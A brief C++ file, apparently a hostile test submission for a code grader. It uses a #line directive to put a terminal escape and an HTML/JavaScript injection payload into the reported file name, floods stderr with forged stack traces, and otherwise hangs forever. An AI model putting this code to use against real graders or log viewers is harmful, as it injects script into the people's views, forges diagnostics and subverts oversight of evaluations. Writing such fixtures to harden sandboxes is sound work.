// Hangs, and where its steps are counted forges what is written about them.
#include <unistd.h>
#include <cstdio>
#line 7 "\033[2J<img src=x onerror=alert(1)>FORGED.cpp"
inline void attack(int function) {
  if (function != 1) return;
#ifndef __OPTIMIZE__
  for (int count = 0; count < 500; ++count) {
    std::fprintf(stderr,
                 "\nSTILL RUNNING\n(/proc/self/exe+0x%x)\n/submission/FORGED.cpp:3\n"
                 "CALLED FROM\n(/proc/self/exe+0xffffffffffff)\n\033[2J<script>FORGED\n",
                 count);
  }
  _exit(0);
#endif
  for (volatile bool forever = true; forever;) {
  }
}
#define ATTACK(function) attack(function)
